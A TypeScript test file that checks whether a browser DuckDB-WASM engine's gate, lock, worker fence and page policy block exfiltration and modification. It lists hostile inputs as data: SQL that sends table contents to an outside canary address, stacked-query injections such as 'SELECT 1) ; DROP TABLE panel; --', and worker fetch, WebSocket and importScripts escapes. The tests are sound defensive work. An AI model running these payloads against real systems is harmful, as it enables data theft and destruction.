import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type EnginePageOpened, type EngineSite, serveEngine } from './engine-site.ts';
import { closedAnyway, waysUnheard } from '../adversary/ways-out.ts';

let site: EngineSite;
let opened: EnginePageOpened;
beforeAll(async () => {
  site = await serveEngine();
  opened = await site.open();
  await opened.page.evaluate(async () => {
    const session = new engine.Session({ siteUrl: engine.siteUrl });
    await session.run('SELECT count(*) FROM panel');
    Object.assign(globalThis, { session });
  });
});
afterAll(async () => {
  await opened.close();
  await site.close();
});

declare const session: InstanceType<(typeof engine)['Session']>;

/** Every way out or to a file that SQL has; %s is the address of a server that must hear nothing. */
const waysOut = [
  "FROM read_csv('%sx.csv')",
  "FROM read_text('%sx')",
  "FROM read_blob('%sx')",
  "FROM sniff_csv('%sx.csv')",
  "FROM glob('%s*')",
  "FROM '%sx.csv'",
  "FROM '%sx.parquet'",
  "FROM read_parquet('%sx.parquet')",
  "FROM read_json('%sx.json')",
  "FROM read_csv('user/x.csv')",
  "FROM read_csv('%s?' || (SELECT max(authority) FROM panel))",
  "FROM query('FROM read_csv(''%sx.csv'')')",
  "FROM read_csv(['%sa.csv', '%sb.csv'])",
  "SELECT * FROM read_csv('s3://bucket/x.csv')",
  "SELECT * FROM read_csv('opfs://x.csv')",
  "ATTACH '%sx.db'",
  "ATTACH 'x.db' AS x",
  "COPY panel TO '%sx.csv'",
  "COPY panel TO 'x.csv'",
  "COPY panel FROM '%sx.csv'",
  "EXPORT DATABASE 'x'",
  "IMPORT DATABASE '%sx'",
  'INSTALL httpfs',
  "INSTALL icu FROM '%s'",
  'LOAD icu',
  "LOAD '%sx.wasm'",
  "SET custom_extension_repository = '%s'",
  "SET VARIABLE v = (SELECT max(authority) FROM panel); FROM read_csv('%s?' || getvariable('v'))",
  'SET enable_external_access = true',
  "SET allowed_paths = ['%s']",
  "SET allowed_directories = ['/']",
  'SET lock_configuration = false',
  'RESET lock_configuration',
  "SET memory_limit = '4GB'",
  'PRAGMA enable_external_access = true',
  'PRAGMA disable_optimizer',
  "CALL enable_logging(storage = 'file', storage_path = '%sx')",
  "FROM enable_logging(storage = 'file', storage_path = '%sx')",
];

/** Statements that change something; refused by the gate. */
const changes = [
  'DROP TABLE panel',
  'DELETE FROM panel',
  "INSERT INTO panel (authority) VALUES ('A000')",
  'UPDATE panel SET year = 1',
  'CREATE TABLE x AS SELECT 1',
  'CREATE OR REPLACE MACRO wilson_ci(a, b) AS 1',
  'CREATE SECRET s (TYPE s3)',
  'ALTER TABLE panel RENAME TO x',
  'TRUNCATE panel',
  'BEGIN',
  'PREPARE p AS SELECT 1',
  'EXPLAIN DROP TABLE panel',
  'EXPLAIN ANALYZE DELETE FROM panel',
  'EXPLAIN ANALYZE SELECT 1) ; DROP TABLE panel; --',
  'SELECT 1; DROP TABLE panel',
  'SELECT 1) ; DROP TABLE panel; --',
  'SELECT 1)) ; DROP TABLE panel; /*',
  '/* SELECT */ DROP TABLE panel',
  '-- SELECT\nDROP TABLE panel',
  "SELECT * FROM query('DROP TABLE panel')",
  "SELECT * FROM query('SELECT 1; DROP TABLE panel')",
  'WITH x AS (DELETE FROM panel RETURNING *) FROM x',
  'WITH x AS (INSERT INTO panel (year) VALUES (1) RETURNING *) FROM x',
  'FROM (DROP TABLE panel)',
  "FROM enable_logging(storage = 'file', storage_path = 'x')",
  "SELECT * FROM query('FROM enable' || '_logging(storage = ''file'', storage_path = ''x'')')",
  'SELECT (SELECT count(*) FROM system.main."enable_logging"())',
  'SELECT * FROM range(3), disable_logging()',
  'EXPLAIN ANALYZE FROM truncate_duckdb_logs()',
  'FROM force_checkpoint()',
  'SELECT 1；DROP TABLE panel',
  'SELECT 1) UNION ALL (DROP TABLE panel',
];

/** What must not change whatever is tried. */
function state(page: Page): Promise<unknown> {
  return page.evaluate(async () => {
    const { rows } = await session.run(`
      SELECT (SELECT count(*) || ' ' || sum(year) || ' ' || count(agency_rate) FROM panel),
             (SELECT string_agg(table_name, ' ' ORDER BY table_name) FROM duckdb_tables()),
             (SELECT string_agg(function_name, ' ' ORDER BY function_name) FROM duckdb_functions() WHERE NOT internal),
             (SELECT string_agg(name || value, ' ' ORDER BY name) FROM duckdb_settings()),
             wilson_ci(1, 10)`);
    return rows;
  });
}

describe('a statement from the console', () => {
  let before: unknown;
  beforeAll(async () => {
    before = await state(opened.page);
  });

  it.each([...waysOut, ...changes])('is refused: %s', async (pattern) => {
    const sql = pattern.replaceAll('%s', site.elsewhere);
    const told = await opened.page.evaluate((text) => engine.tell(session.run(text)), sql);
    expect('kind' in told ? told.kind : 'ran').toMatch(/^(query|refused)$/);
  });

  it('has changed nothing, and nothing was heard outside', async () => {
    expect(await state(opened.page)).toEqual(before);
    expect(await site.heard()).toEqual([]);
  });
});

/** Those of the ways out that name an address. */
const statementsOut = waysOut.filter((pattern) => pattern.includes('%s'));

/** Those that ask nothing of it where nothing keeps them either: they are no SQL, need an extension or only set something. */
const askNothing = [
  "FROM read_parquet('%sx.parquet')",
  "FROM read_json('%sx.json')",
  "FROM read_csv('%s?' || (SELECT max(authority) FROM panel))",
  "INSTALL icu FROM '%s'",
  "SET custom_extension_repository = '%s'",
  "SET allowed_paths = ['%s']",
  "FROM enable_logging(storage = 'file', storage_path = '%sx')",
];

describe('an engine without gate, lock, fence and policy', () => {
  it('would be heard: nearly every statement that names an address asks for it', async () => {
    const { page, faults, close } = await site.open({ bypassCSP: true });
    const wasm = gunzipSync(
      readFileSync(join(import.meta.dirname, '../../../public/engine/duckdb-eh.wasm.gz')),
    );
    await page.route('**/engine/duckdb-eh.wasm.gz', (route) =>
      route.fulfill({ body: wasm, contentType: 'application/wasm' }),
    );
    const sql = statementsOut.map((pattern, i) => pattern.replaceAll('%s', `${site.elsewhere}way-${i}/`));
    await page.evaluate(async (list) => {
      const { Blob: Whole } = globalThis;
      globalThis.Blob = class extends Whole {
        constructor(parts: BlobPart[] = [], options?: BlobPropertyBag) {
          super(parts.slice(-1), options); // without the fence, which comes first
        }
      };
      const { database } = await engine.startEngine(engine.siteUrl);
      const connection = await database.connect();
      await connection.query('SET autoload_known_extensions = false'); // they would come from elsewhere still
      await connection.query('CREATE TABLE panel AS SELECT 1 AS authority');
      for (const statement of list) await connection.query(statement).catch(() => {});
    }, sql);
    faults.length = 0;
    const unheard = waysUnheard(statementsOut, await site.heard());
    expect(unheard).toEqual(askNothing);
    await close();
  });
});

describe('the lock alone, without the gate', () => {
  it('lets no statement out and no setting change', async () => {
    const sql = waysOut
      .filter((pattern) => !pattern.includes('logging')) // what the gate is there for
      .map((pattern) => pattern.replaceAll('%s', site.elsewhere));
    const answers = await opened.page.evaluate(async (list) => {
      const { siteUrl } = engine;
      const source = engine.tablesOf(siteUrl);
      const database = await engine.createDatabase({ siteUrl, source, tables: ['panel'] });
      return await engine.connected(database.engine, async (connection) => {
        const settings = async () => String((await connection.query('FROM duckdb_settings()')).toArray());
        const before = await settings();
        const ran: string[] = [];
        for (const statement of list) {
          const rows = await connection.query(statement).then(
            (table) => table.numRows,
            () => -1,
          );
          if (rows > 0) ran.push(statement);
        }
        return { ran, isSame: before === (await settings()) };
      });
    }, sql);
    expect(answers).toEqual({ ran: [], isSame: true });
    expect(await site.heard()).toEqual([]);
  });
});

/** What a worker could do beside what it is there for. CANARY is the address that must hear nothing, SITE that of the page. */
const waysOutOfEngine = [
  'fetch(CANARY)',
  'fetch(SITE + "data/panel.parquet")',
  'fetch(SITE + "engine/duckdb-eh.wasm.gz").then(() => fetch(SITE + "engine/duckdb-eh.wasm.gz"))',
  '(() => { const r = new XMLHttpRequest(); r.open("GET", CANARY, false); r.send(); })()',
  'new WebSocket(CANARY.replace("http", "ws"))',
  'new EventSource(CANARY)',
  'importScripts(CANARY + "x.js")',
  'import(CANARY + "x.js")',
  'new Worker(CANARY)',
  'new BroadcastChannel("x")',
  'indexedDB.open("x")',
  'caches.open("x")',
  'navigator.storage.getDirectory()',
];

/** Tries something in a worker of a page, behind the fence of the engine or without it; whether it could be done. */
function tryInWorker(page: Page, attempt: string, { isFenced }: { isFenced: boolean }): Promise<unknown> {
  return page.evaluate(
    async ([code, canary, fenced]) => {
      const prelude = fenced ? engine.workerPrelude(engine.engineFile(engine.siteUrl)) : '';
      const constants = `const CANARY = ${JSON.stringify(canary)}, SITE = ${JSON.stringify(engine.siteUrl)};`;
      const trial = `(async () => ${code})().then(() => postMessage('open'), () => postMessage('closed'));`;
      const url = URL.createObjectURL(new Blob([prelude, constants, trial], { type: 'text/javascript' }));
      const worker = new Worker(url);
      const answer = await new Promise((done) =>
        worker.addEventListener('message', ({ data }) => done(data)),
      );
      worker.terminate();
      return answer;
    },
    [attempt, site.elsewhere, isFenced] as const,
  );
}

describe('the worker alone, without the lock', () => {
  it('has no network after the engine has come', async () => {
    const sql = waysOut.map((pattern) => pattern.replaceAll('%s', site.elsewhere));
    await opened.page.evaluate(async (list) => {
      const { database, kill } = await engine.startEngine(engine.siteUrl);
      const connection = await database.connect();
      await connection.query('CREATE TABLE panel AS SELECT 1 AS authority');
      for (const statement of list) await connection.query(statement).catch(() => {});
      kill(new Error('done') as Parameters<typeof kill>[0]);
    }, sql);
    expect(await site.heard()).toEqual([]);
  });

  it.each(waysOutOfEngine)('fails at %s', async (attempt) => {
    expect(await tryInWorker(opened.page, attempt, { isFenced: true })).toBe('closed');
    expect(await site.heard()).toEqual([]);
  });

  it('is what fails: without fence and policy each of them works, or is heard', async () => {
    const { page, faults, close } = await site.open({ bypassCSP: true });
    const closed: string[] = [];
    for (const attempt of waysOutOfEngine) {
      const told = await tryInWorker(page, attempt, { isFenced: false });
      if (told !== 'open' && (await site.heard()).length === 0) closed.push(attempt);
    }
    faults.length = 0;
    expect(closed).toEqual(waysOutOfEngine.filter((attempt) => closedAnyway.includes(attempt)));
    await close();
  });

  it('is bound by the policy of the page even where there is no prelude', async () => {
    const told = await opened.page.evaluate(async (canary) => {
      const trial = `fetch(${JSON.stringify(canary)}).then(() => postMessage('open'), () => postMessage('closed'));`;
      const worker = new Worker(URL.createObjectURL(new Blob([trial])));
      return await new Promise((done) => worker.addEventListener('message', ({ data }) => done(data)));
    }, site.elsewhere);
    expect(told).toBe('closed');
    expect(await site.heard()).toEqual([]);
  });
});
